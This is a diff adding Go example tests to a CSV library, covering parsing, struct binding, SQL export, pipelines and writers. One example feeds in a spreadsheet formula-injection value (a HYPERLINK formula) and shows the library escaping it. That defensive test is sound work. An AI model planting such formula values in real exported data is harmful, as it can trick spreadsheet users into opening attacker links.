+	// rob,1
+	// # ken is on leave
+	// # and back in March
+	// ken,2
+}
+
+func ExampleWriter_null() {
+	type user struct {
+		Name  string         `csv:"name"`
+		Email sql.NullString `csv:"email"`
+		Age   *int           `csv:"age"`
+	}
+	age := 42
+	w := csv.Writer{
+		Writer:     os.Stdout,
+		Null:       `\N`,
+		ColumnNull: map[string]string{"age": "NA"},
+	}
+	for _, u := range []user{
+		{"rob", sql.NullString{String: "rob@example.com", Valid: true}, &age},
+		{Name: "ken"},
+	} {
+		if err := w.WriteStruct(u); err != nil {
+			log.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// name,email,age
+	// rob,rob@example.com,42
+	// ken,\N,NA
+}
+
+func ExampleEncodeSQLRows() {
+	// The driver for "sqlite" must be imported.
+	db, err := sql.Open("sqlite", "users.db")
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer db.Close()
+	rows, err := db.Query("SELECT username, uid, email FROM users")
+	if err != nil {
+		log.Fatal(err)
+	}
+	w := csv.Writer{Writer: os.Stdout, Null: "NULL"}
+	if err := csv.EncodeSQLRows(&w, rows); err != nil {
+		log.Fatal(err)
+	}
+}
+
+func ExampleEncodeSQLRows_duplicateColumns() {
+	// A join may return several columns with the same name.
+	db := sql.OpenDB(resultSet{
+		cols: []string{"id", "name", "id"},
+		rows: [][]driver.Value{{int64(1), "rob", int64(10)}, {int64(2), "ken", nil}},
+	})
+	defer db.Close()
+	query := "SELECT u.id, u.name, g.id FROM users u LEFT JOIN groups g ON g.owner = u.id"
+	for _, fieldnames := range [][]string{nil, {"name", "id_2"}} {
+		rows, err := db.Query(query)
+		if err != nil {
+			log.Fatal(err)
+		}
+		w := csv.Writer{Writer: os.Stdout, FieldNames: fieldnames, Null: "NULL"}
+		if err := csv.EncodeSQLRows(&w, rows); err != nil {
+			log.Fatal(err)
+		}
+	}
+
+	// Output:
+	// id,name,id
+	// 1,rob,10
+	// 2,ken,NULL
+	// name,id_2
+	// rob,10
+	// ken,NULL
+}
+
+// resultSet is a database/sql/driver connector
+// whose queries all return the same rows.
+type resultSet struct {
+	cols []string
+	rows [][]driver.Value
+}
+
+func (rs resultSet) Connect(context.Context) (driver.Conn, error) { return rs, nil }
+func (rs resultSet) Driver() driver.Driver                        { return nil }
+func (rs resultSet) Prepare(string) (driver.Stmt, error)          { return rs, nil }
+func (rs resultSet) Begin() (driver.Tx, error)                    { return nil, errors.ErrUnsupported }
+func (rs resultSet) Close() error                                 { return nil }
+func (rs resultSet) NumInput() int                                { return -1 }
+func (rs resultSet) Exec([]driver.Value) (driver.Result, error)   { return nil, errors.ErrUnsupported }
+func (rs resultSet) Query([]driver.Value) (driver.Rows, error)    { return &resultRows{rs, 0}, nil }
+
+type resultRows struct {
+	resultSet
+	n int
+}
+
+func (rr *resultRows) Columns() []string { return rr.cols }
+
+func (rr *resultRows) Next(dest []driver.Value) error {
+	if rr.n == len(rr.rows) {
+		return io.EOF
+	}
+	copy(dest, rr.rows[rr.n])
+	rr.n++
+	return nil
+}
+
+func ExampleLoader_Inserts() {
+	in := `username,uid,joined,note
+rob,1,2024-01-02,gopher
+ken,2,,
+"gri",3,2024-03-04,
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+		Rename: map[string]string{"joined": "created_at"},
+	}
+	schema := csv.Schema{Columns: []csv.ColumnSchema{
+		{Name: "username", Type: csv.TypeString},
+		{Name: "uid", Type: csv.TypeInt},
+		{Name: "created_at", Type: csv.TypeTime, Layout: time.DateOnly, Nullable: true},
+	}}
+	l := csv.NewLoader(csvopt, schema)
+	for query, args := range l.Inserts("users", 2, csv.DollarNumber) {
+		fmt.Println(query)
+		fmt.Printf("%#v\n", args)
+	}
+	if err := l.Err(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// INSERT INTO users ("username", "uid", "created_at") VALUES ($1, $2, $3), ($4, $5, $6)
+	// []interface {}{"rob", 1, time.Date(2024, time.January, 2, 0, 0, 0, 0, time.UTC), "ken", 2, interface {}(nil)}
+	// INSERT INTO users ("username", "uid", "created_at") VALUES ($1, $2, $3)
+	// []interface {}{"gri", 3, time.Date(2024, time.March, 4, 0, 0, 0, 0, time.UTC)}
+}
+
+func ExampleDriverRows() {
+	in := `username,uid
+rob,1
+ken,
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	schema := csv.Schema{Columns: []csv.ColumnSchema{
+		{Name: "username", Type: csv.TypeString},
+		{Name: "uid", Type: csv.TypeInt, Nullable: true},
+	}}
+	var rows driver.Rows = csv.NewDriverRows(csvopt, schema)
+	fmt.Println(rows.Columns())
+	dest := make([]driver.Value, 2)
+	for {
+		err := rows.Next(dest)
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("%#v\n", dest)
+	}
+
+	// Output:
+	// [username uid]
+	// []driver.Value{"rob", 1}
+	// []driver.Value{"ken", driver.Value(nil)}
+}
+
+func ExampleServeSeq() {
+	type user struct {
+		Name string `csv:"name"`
+		Note string `csv:"note"`
+	}
+	users := []user{{"rob", "gopher"}, {"ken", "=HYPERLINK(\"http://example.com\")"}}
+	h := func(w http.ResponseWriter, r *http.Request) {
+		err := csv.ServeSeq(w, r, "users.csv", csv.Writer{}, slices.Values(users))
+		if err != nil {
+			log.Print(err)
+		}
+	}
+	rec := httptest.NewRecorder()
+	h(rec, httptest.NewRequest("GET", "/users.csv", nil))
+	fmt.Println(rec.Header().Get("Content-Type"))
+	fmt.Println(rec.Header().Get("Content-Disposition"))
+	fmt.Print(rec.Body)
+
+	// Output:
+	// text/csv; charset=utf-8
+	// attachment; filename=users.csv
+	// name,note
+	// rob,gopher
+	// ken,"'=HYPERLINK(""http://example.com"")"
+}
+
+func ExampleFromHTTPResponse() {
+	resp := &http.Response{
+		Status:     "200 OK",
+		StatusCode: http.StatusOK,
+		Header:     http.Header{"Content-Type": {"text/csv; charset=windows-1252"}},
+		Body:       io.NopCloser(strings.NewReader("name;city\nJos\xe9;Montr\xe9al\n")),
+	}
+	defer resp.Body.Close()
+	csvopt, err := csv.FromHTTPResponse(resp)
+	if err != nil {
+		log.Fatal(err)
+	}
+	rows, err := csvopt.ReadAll()
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(rows)
+
+	// Output:
+	// [map[city:Montréal name:José]]
+}
+
+func ExampleFromMultipartFile() {
+	// Build an upload, as a browser would send it.
+	var body bytes.Buffer
+	mw := multipart.NewWriter(&body)
+	fw, _ := mw.CreateFormFile("users", "users.csv")
+	io.WriteString(fw, "username;uid\nrob;1\nken;2\n")
+	mw.Close()
+	req := httptest.NewRequest("POST", "/upload", &body)
+	req.Header.Set("Content-Type", mw.FormDataContentType())
+
+	_, fh, err := req.FormFile("users")
+	if err != nil {
+		log.Fatal(err)
+	}
+	csvopt, err := csv.FromMultipartFile(fh, 10<<20, 10_000)
+	if err != nil {
+		log.Fatal(err)
+	}
+	type user struct {
+		Username string `csv:"username"`
+		UID      int    `csv:"uid"`
+	}
+	users, err := csv.ScanAll[user](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(users)
+
+	_, err = csv.FromMultipartFile(fh, 10<<20, 1)
+	fmt.Println(err)
+
+	// Output:
+	// [{rob 1} {ken 2}]
+	// csv: too many rows: "users.csv"
+}
+
+func ExampleWriter_WriteStruct() {
+	type product struct {
+		Name   string        `csv:"name"`
+		Colors []string      `csv:"colors,sep=|"`
+		Price  *float64      `csv:"price"`
+		Added  time.Time     `csv:"added,layout=2006-01-02"`
+		Length time.Duration `csv:"length,duration=clock"`
+	}
+	price := 9.5
+	w := csv.Writer{Writer: os.Stdout}
+	for _, p := range []product{
+		{"shirt", []string{"red", "green"}, &price, time.Date(2024, 5, 1, 0, 0, 0, 0, time.UTC), 90 * time.Minute},
+		{Name: "socks"},
+	} {
+		if err := w.WriteStruct(p); err != nil {
+			log.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// name,colors,price,added,length
+	// shirt,red|green,9.5,2024-05-01,1:30:00
+	// socks,,,,0:00:00
+}
+
+// version can be scanned from text, but has no way to be written as text.
+type version struct{ major, minor int }
+
+func (v *version) UnmarshalText(b []byte) error {
+	_, err := fmt.Sscanf(string(b), "%d.%d", &v.major, &v.minor)
+	return err
+}
+
+func ExampleWriter_WriteStruct_unsupported() {
+	// Fields that can be scanned but not written are left empty.
+	type service struct {
+		Name     string             `csv:"name"`
+		Labels   map[string]string  `csv:"labels,kv=;"`
+		Deps     map[string]version `csv:"deps,kv=;"`
+		Releases []version          `csv:"releases,sep=|"`
+	}
+	w := csv.Writer{Writer: os.Stdout}
+	if err := w.WriteStruct(service{
+		Name:     "api",
+		Labels:   map[string]string{"env": "prod"},
+		Deps:     map[string]version{"db": {1, 2}},
+		Releases: []version{{1, 0}, {1, 1}},
+	}); err != nil {
+		log.Fatal(err)
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// name,labels,deps,releases
+	// api,env=prod,,
+}
+
+func ExampleRow_Scan_durations() {
+	in := `track,length,fade
+Intro,1:05,2s
+Outro,00:03:30.5,1.5s
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type track struct {
+		Name   string        `csv:"track"`
+		Length time.Duration `csv:"length,duration=clock"`
+		Fade   time.Duration `csv:"fade"`
+	}
+	tracks, err := csv.ScanAll[track](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, t := range tracks {
+		fmt.Println(t.Name, t.Length, t.Fade)
+	}
+
+	// Output:
+	// Intro 1h5m0s 2s
+	// Outro 3m30.5s 1.5s
+}
+
+func ExampleRow_Scan_timeLayouts() {
+	in := `event,start,end
+launch,2009-11-10 23:00,2009-11-10
+release,2012-03-28 09:30,03/29/2012
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type event struct {
+		Name  string    `csv:"event"`
+		Start time.Time `csv:"start,layout=2006-01-02 15:04"`
+		End   time.Time `csv:"end,layout=2006-01-02|01/02/2006"`
+	}
+	events, err := csv.ScanAll[event](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, e := range events {
+		fmt.Println(e.Name, e.Start.Format(time.RFC3339), e.End.Format(time.DateOnly))
+	}
+
+	// Output:
+	// launch 2009-11-10T23:00:00Z 2009-11-10
+	// release 2012-03-28T09:30:00Z 2012-03-29
+}
+
+func ExampleOptions_location() {
+	in := `flight,departs,arrives
+AF7,2024-03-10 13:30,2024-03-10 15:45
+`
+	paris, err := time.LoadLocation("Europe/Paris")
+	if err != nil {
+		log.Fatal(err)
+	}
+	csvopt := csv.Options{
+		Reader:   strings.NewReader(in),
+		Location: paris,
+	}
+	type flight struct {
+		Number  string    `csv:"flight"`
+		Departs time.Time `csv:"departs,layout=2006-01-02 15:04"`
+		Arrives time.Time `csv:"arrives,layout=2006-01-02 15:04,tz=America/New_York"`
+	}
+	flights, err := csv.ScanAll[flight](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, f := range flights {
+		fmt.Println(f.Number, f.Departs.UTC().Format(time.DateTime), f.Arrives.UTC().Format(time.DateTime))
+		fmt.Println(f.Arrives.Sub(f.Departs))
+	}
+
+	// Output:
+	// AF7 2024-03-10 12:30:00 2024-03-10 19:45:00
+	// 7h15m0s
+}
+
+func ExampleScanError() {
+	in := `username,uid
+rob,1001
+ken,ten-oh-two
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	var user struct {
+		Username string `csv:"username"`
+		UID      int    `csv:"uid"`
+	}
+	for err := range csv.Scan(csvopt, &user) {
+		if err != nil {
+			fmt.Println(err)
+			continue
+		}
+		fmt.Println(user.Username, user.UID)
+	}
+
+	// Output:
+	// rob 1001
+	// line 3, column "uid": strconv.ParseInt: parsing "ten-oh-two": invalid syntax
+}
+
+// largestRead records the largest read made from its Reader.
+type largestRead struct {
+	io.Reader
+	max int
+}
+
+func (r *largestRead) Read(p []byte) (int, error) {
+	r.max = max(r.max, len(p))
+	return r.Reader.Read(p)
+}
+
+func ExampleOptions_bufferSize() {
+	in := "id,note\n1," + strings.Repeat("x", 100) + "\n2,short\n"
+	src := &largestRead{Reader: strings.NewReader(in)}
+	csvopt := csv.Options{
+		Reader:     src,
+		BufferSize: 32,
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(row.Field("id"), len(row.Field("note")))
+	}
+	fmt.Println("largest read:", src.max)
+
+	// Output:
+	// 1 100
+	// 2 5
+	// largest read: 32
+}
+
+func ExampleBinder_DecodeRow() {
+	in := `username,uid
+rob,1
+ken,two
+gri,3
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	type user struct {
+		Username string `csv:"username"`
+		UID      int    `csv:"uid"`
+	}
+	b := csv.Bind[user](nil)
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		var u user
+		if err := b.DecodeRow(row, &u); err != nil {
+			fmt.Println("skipping:", err)
+			continue
+		}
+		fmt.Println(u)
+	}
+
+	// Output:
+	// {rob 1}
+	// skipping: line 3, column "uid": strconv.ParseInt: parsing "two": invalid syntax
+	// {gri 3}
+}
+
+func ExampleScanAll() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+
+	type user struct {
+		Username string `csv:"username"`
+		First    string `csv:"first_name"`
+		Last     string `csv:"last_name"`
+	}
+	users, err := csv.ScanAll[user](csvopt)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(users)
+
+	// Output:
+	// [{rob Rob Pike} {ken Ken Thompson} {gri Robert Griesemer}]
+}
+
+func ExampleScanAllInto() {
+	files := []string{
+		"username,uid\nrob,1001\nken,1002\n",
+		"username,uid\ngri,1003\n",
+	}
+	type user struct {
+		Username string `csv:"username"`
+		UID      int    `csv:"uid"`
+	}
+	users := make([]user, 0, 10)
+	for _, f := range files {
+		err := csv.ScanAllInto(csv.Options{Reader: strings.NewReader(f)}, &users)
+		if err != nil {
+			log.Fatal(err)
+		}
+	}
+	fmt.Println(users, cap(users))
+
+	// Output:
+	// [{rob 1001} {ken 1002} {gri 1003}] 10
+}
+
+func ExampleScanAll_maps() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+`
+	users, err := csv.ScanAll[map[string]string](csv.Options{
+		Reader: strings.NewReader(in),
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(users)
+
+	records, err := csv.ScanAll[[]string](csv.Options{
+		Reader: strings.NewReader(in),
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(records)
+
+	// Output:
+	// [map[first_name:Rob last_name:Pike username:rob] map[first_name:Ken last_name:Thompson username:ken]]
+	// [[Rob Pike rob] [Ken Thompson ken]]
+}
+
+func ExampleRow_Scan_aliases() {
+	supplierA := `name,email
+Rob,rob@example.com
+`
+	supplierB := `name,e-mail
+Ken,ken@example.com
+`
+	type contact struct {
+		Name  string `csv:"name"`
+		Email string `csv:"email|e-mail|email_address"`
+	}
+	for _, in := range []string{supplierA, supplierB} {
+		contacts, err := csv.ScanAll[contact](csv.Options{
+			Reader: strings.NewReader(in),
+		})
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(contacts)
+	}
+
+	// Output:
+	// [{Rob rob@example.com}]
+	// [{Ken ken@example.com}]
+}
+
+func ExampleBind() {
+	files := []string{
+		`first_name,last_name,username
+"Rob","Pike",rob
+`,
+		`first_name,last_name,username
+Ken,Thompson,ken
+`,
+	}
+	type user struct {
+		Username string `csv:"username"`
+		First    string `csv:"first_name"`
+		Last     string `csv:"last_name"`
+	}
+	binder := csv.Bind[user]([]string{"first_name", "last_name", "username"})
+	for _, in := range files {
+		users, err := binder.ScanAll(csv.Options{
+			Reader: strings.NewReader(in),
+		})
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(users)
+	}
+
+	// Output:
+	// [{rob Rob Pike}]
+	// [{ken Ken Thompson}]
+}
+
+func ExampleScanAllParallel() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+
+	type user struct {
+		Username string `csv:"username"`
+		First    string `csv:"first_name"`
+		Last     string `csv:"last_name"`
+	}
+	users, err := csv.ScanAllParallel[user](csvopt, 4)
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println(users)
+
+	// Output:
+	// [{rob Rob Pike} {ken Ken Thompson} {gri Robert Griesemer}]
+}
+
+func ExamplePipeline() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+"Robert","Griesemer","gri"
+`
+	p := csv.Pipeline{
+		Source: csv.Options{
+			Reader: strings.NewReader(in),
+		},
+		Transforms: []csv.Transform{
+			csv.Where(func(row *csv.Row) bool {
+				return row.Field("username") != "ken"
+			}),
+			func(row *csv.Row) (*csv.Row, error) {
+				full := row.Field("first_name") + " " + row.Field("last_name")
+				return csv.NewRow(
+					[]string{"username", "full_name"},
+					[]string{row.Field("username"), full},
+				), nil
+			},
+		},
+		Sink: &csv.Writer{
+			Writer: os.Stdout,
+		},
+	}
+	if err := p.Run(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// username,full_name
+	// rob,Rob Pike
+	// gri,Robert Griesemer
+}
+
+func ExamplePipeline_omitColumns() {
+	in := `username,password,uid,shell
+rob,hunter2,1001,/bin/rc
+ken,swordfish,1002,/bin/sh
+`
+	p := csv.Pipeline{
+		Source: csv.Options{
+			Reader:      strings.NewReader(in),
+			OmitColumns: []string{"password"},
+		},
+		Sink: &csv.Writer{
+			Writer: os.Stdout,
+		},
+	}
+	if err := p.Run(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// username,uid,shell
+	// rob,1001,/bin/rc
+	// ken,1002,/bin/sh
+}
+
+func ExampleRename() {
+	in := `First,Last,Login
+"Rob","Pike",rob
+Ken,Thompson,ken
+`
+	p := csv.Pipeline{
+		Source: csv.Options{
+			Reader: strings.NewReader(in),
+		},
+		Transforms: []csv.Transform{
+			csv.Rename(map[string]string{
+				"First": "first_name",
+				"Last":  "last_name",
+				"Login": "username",
+			}),
+		},
+		Sink: &csv.Writer{
+			Writer: os.Stdout,
+		},
+	}
+	if err := p.Run(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// first_name,last_name,username
+	// Rob,Pike,rob
+	// Ken,Thompson,ken
+}
+
+func ExampleDerive() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+`
+	p := csv.Pipeline{
+		Source: csv.Options{
+			Reader: strings.NewReader(in),
+		},
+		Transforms: []csv.Transform{
+			csv.Derive("full_name", func(row *csv.Row) (string, error) {
+				return row.Field("first_name") + " " + row.Field("last_name"), nil
+			}),
+		},
+		Sink: &csv.Writer{
+			Writer:     os.Stdout,
+			FieldNames: []string{"username", "full_name"},
+		},
+	}
+	if err := p.Run(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// username,full_name
+	// rob,Rob Pike
+	// ken,Ken Thompson
+}
+
+func ExampleDerive_scan() {
+	// The rows of a Transform are scanned with the Options of their source.
+	march := `product;price
+Stroopwafels;1.234,56
+`
+	april := `product;price
+Hagelslag;2,50
+`
+	var sources []csv.Options
+	for _, in := range []string{march, april} {
+		sources = append(sources, csv.Options{
+			Reader:       strings.NewReader(in),
+			Comma:        ';',
+			NumberFormat: csv.NumberFormatEU,
+		})
+	}
+	sku := csv.Derive("sku", func(row *csv.Row) (string, error) {
+		return strings.ToUpper(row.Field("product")[:4]), nil
+	})
+	type sale struct {
+		SKU   string  `csv:"sku"`
+		Price float64 `csv:"price"`
+	}
+	for row, err := range csv.Concat(sources...) {
+		if err != nil {
+			log.Fatal(err)
+		}
+		row, err := sku(row)
+		if err != nil {
+			log.Fatal(err)
+		}
+		var s sale
+		if err := row.Decode(&s); err != nil {
+			log.Fatal(err)
+		}
+		fmt.Println(s)
+	}
+
+	// Output:
+	// {STRO 1234.56}
+	// {HAGE 2.5}
+}
+
+func ExampleDedup() {
+	in := `username,email
+rob,rob@example.com
+ken,ken@example.com
+robert,rob@example.com
+`
+	p := csv.Pipeline{
+		Source: csv.Options{
+			Reader: strings.NewReader(in),
+		},
+		Transforms: []csv.Transform{
+			csv.Dedup([]string{"email"}),
+		},
+		Sink: &csv.Writer{
+			Writer: os.Stdout,
+		},
+	}
+	if err := p.Run(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// username,email
+	// rob,rob@example.com
+	// ken,ken@example.com
+}
+
+func ExampleDedupApprox() {
+	// 10,000 distinct users, each listed twice.
+	var in strings.Builder
+	in.WriteString("username,uid\n")
+	for range 2 {
+		for uid := range 10_000 {
+			fmt.Fprintf(&in, "user%d,%d\n", uid, uid)
+		}
+	}
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in.String()),
+	}
+	// Size the filter for the number of distinct keys expected.
+	dedup := csv.DedupApprox([]string{"username"}, 10_000, 0.01)
+	firsts, repeats := 0, 0
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		kept, err := dedup(row)
+		if err != nil {
+			log.Fatal(err)
+		}
+		switch {
+		case kept != nil && row.Line() <= 10_001:
+			firsts++
+		case kept != nil:
+			repeats++
+		}
+	}
+	// Duplicates are always dropped, but about 1% of
+	// rows seen for the first time may be dropped too.
+	fmt.Println("repeats kept:", repeats)
+	fmt.Println("at least 99% of first rows kept:", firsts >= 9_900)
+
+	// Output:
+	// repeats kept: 0
+	// at least 99% of first rows kept: true
+}
+
+func ExampleWriter() {
+	in := `first_name,last_name,username
+"Rob","Pike",rob
+Ken,Thompson,ken
+`
+	csvopt := csv.Options{
+		Reader: strings.NewReader(in),
+	}
+	w := csv.Writer{
+		Writer:     os.Stdout,
+		Comma:      ';',
+		FieldNames: []string{"username", "last_name"},
+	}
+	for row, err := range csvopt.Rows() {
+		if err != nil {
+			log.Fatal(err)
+		}
+		if err = w.WriteRow(row); err != nil {
+			log.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// username;last_name
+	// rob;Pike
+	// ken;Thompson
+}
+
+func ExampleWriter_appendUnlisted() {
+	in := `first_name,last_name,username,uid
+"Rob","Pike",rob,1001
+Ken,Thompson,ken,1002
+`
+	p := csv.Pipeline{
+		Source: csv.Options{
+			Reader: strings.NewReader(in),
+		},
+		Sink: &csv.Writer{
+			Writer:         os.Stdout,
+			FieldNames:     []string{"uid", "username"},
+			AppendUnlisted: true,
+		},
+	}
+	if err := p.Run(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// uid,username,first_name,last_name
+	// 1001,rob,Rob,Pike
+	// 1002,ken,Ken,Thompson
+}
+
+func ExampleCopyWriter() {
+	// Output of COPY users TO STDOUT.
+	in := "rob\t1001\tRob \\\\ Pike\n" +
+		"ken\t1002\t\\N\n" +
+		"gri\t1003\tRobert\\tGriesemer\n"
+	p := csv.Pipeline{
+		Source: csv.Options{
+			Records:    csv.NewCopyReader(strings.NewReader(in)),
+			FieldNames: []string{"username", "uid", "name"},
+		},
+		Transforms: []csv.Transform{
+			csv.Where(func(row *csv.Row) bool {
+				return row.Field("name") != ""
+			}),
+		},
+		// Input for COPY users (uid, name) FROM STDIN.
+		Sink: &csv.CopyWriter{
+			Writer:     os.Stdout,
+			FieldNames: []string{"uid", "name"},
+			Nulls:      true,
+		},
+	}
+	if err := p.Run(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// 1001	Rob \\ Pike
+	// 1003	Robert\tGriesemer
+}
+
+func ExampleCopyReader_delimiter() {
+	var buf bytes.Buffer
+	w := csv.CopyWriter{
+		Writer:    &buf,
+		Delimiter: ',',
+	}
+	for _, record := range [][]string{
+		{"a,b", "c"},
+		{`back\slash`, "tab\tand,comma"},
+	} {
+		if err := w.WriteRecord(record); err != nil {
+			log.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		log.Fatal(err)
+	}
+	fmt.Print(buf.String())
+
+	cr := csv.NewCopyReader(&buf)
+	cr.Delimiter = ','
+	for {
+		record, err := cr.Read()
+		if err == io.EOF {
+			break
+		}
+		if err != nil {
+			log.Fatal(err)
+		}
+		fmt.Printf("%q\n", record)
+	}
+
+	// Output:
+	// a\,b,c
+	// back\\slash,tab\tand\,comma
+	// ["a,b" "c"]
+	// ["back\\slash" "tab\tand,comma"]
+}
+
+type nopCloser struct{ io.Writer }
+
+func (nopCloser) Close() error { return nil }
+
+func ExampleShardWriter() {
+	in := `username,uid
+rob,1001
+ken,1002
+gri,1003
+`
+	p := csv.Pipeline{
+		Source: csv.Options{
+			Reader: strings.NewReader(in),
+		},
+		Sink: &csv.ShardWriter{
+			// Use csv.ShardFiles("part-%04d.csv") to write to files.
+			Create: func(n int) (io.WriteCloser, error) {
+				fmt.Printf("-- part-%04d.csv --\n", n)
+				return nopCloser{os.Stdout}, nil
+			},
+			MaxRows: 2,
+		},
+	}
+	if err := p.Run(); err != nil {
+		log.Fatal(err)
+	}
+
+	// Output:
+	// -- part-0001.csv --
+	// username,uid
+	// rob,1001
+	// ken,1002
+	// -- part-0002.csv --
+	// username,uid
+	// gri,1003
+}
+
+func ExamplePartitionWriter() {
+	in := `username,country
+rob,AU
+ken,US
+gri,CH
+dmr,US
+`
+	outputs := map[string]*strings.Builder{}
+	p := csv.Pipeline{
+		Source: csv.Options{
+			Reader: strings.NewReader(in),
+		},
+		Sink: &csv.PartitionWriter{
+			Column: "country",
+			// Use csv.PartitionFiles("country-%s.csv") to write to files.
+			Create: func(value string) (io.WriteCloser, error) {
+				outputs[value] = &strings.Builder{}
+				return nopCloser{outputs[value]}, nil
+			},
+			FieldNames: []string{"username"},
+		},
+	}
+	if err := p.Run(); err != nil {
+		log.Fatal(err)
+	}
+	for _, country := range slices.Sorted(maps.Keys(outputs)) {
+		fmt.Printf("-- country-%s.csv --\n%s", country, outputs[country])
+	}
+
+	// Output:
+	// -- country-AU.csv --
+	// username
+	// rob
+	// -- country-CH.csv --
+	// username
+	// gri
+	// -- country-US.csv --
+	// username
+	// ken
+	// dmr
 }
 
 func BenchmarkRows(b *testing.B) {